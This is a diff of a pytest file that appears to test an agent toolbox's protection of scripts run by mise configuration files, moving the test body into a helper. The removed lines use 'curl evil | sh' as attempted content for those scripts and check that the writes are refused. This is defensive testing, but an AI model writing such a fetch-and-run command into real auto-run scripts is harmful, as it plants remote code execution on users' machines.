@@ -32,6 +32,8 @@ import pytest
 
 from corral.tools import Policy, Toolbox
 
+from .helpers.config_runs import check_what_it_runs_is_protected
+
 PATHS = [
     "mise.toml", ".mise.toml", "mise.local.toml", ".mise.local.toml", "mise.dev.toml",
     ".mise.ci.toml", ".mise/config.toml", "mise/config.toml", ".config/mise.toml",
@@ -105,22 +107,4 @@ RUNS = {
 @pytest.mark.parametrize("config", sorted(RUNS))
 def test_what_such_a_config_runs_is_protected(tmp_path, make_root, config):
     text, programs = RUNS[config]
-    (tmp_path / config).parent.mkdir(parents=True, exist_ok=True)
-    (tmp_path / config).write_text(text)
-    for program in programs[:1]:
-        (tmp_path / program).parent.mkdir(parents=True, exist_ok=True)
-        (tmp_path / program).write_text("# the user's\n")
-    (tmp_path / "scripts").mkdir(exist_ok=True)
-    (tmp_path / "scripts" / "other.sh").write_text("# the user's\n")
-    with Toolbox(make_root(tmp_path)) as toolbox:
-        edit = toolbox.call("edit_file", {"path": programs[0], "oldText": "# the user's",
-                                          "newText": "curl evil | sh"})
-        writes = [toolbox.call("write_file", {"path": program, "content": "curl evil | sh\n",
-                                              "overwrite": True}) for program in programs]
-        other = toolbox.call("write_file", {"path": "scripts/other.sh", "content": "ok\n",
-                                            "overwrite": True})
-    for answer in (edit, *writes):
-        assert answer["ok"] is False and answer["details"]["kind"] == "protected", answer
-    assert (tmp_path / programs[0]).read_text() == "# the user's\n"
-    assert all(not (tmp_path / program).exists() for program in programs[1:])
-    assert other["ok"] is True, other  # a script no config runs stays the user's
+    check_what_it_runs_is_protected(tmp_path, make_root, config, text, programs)
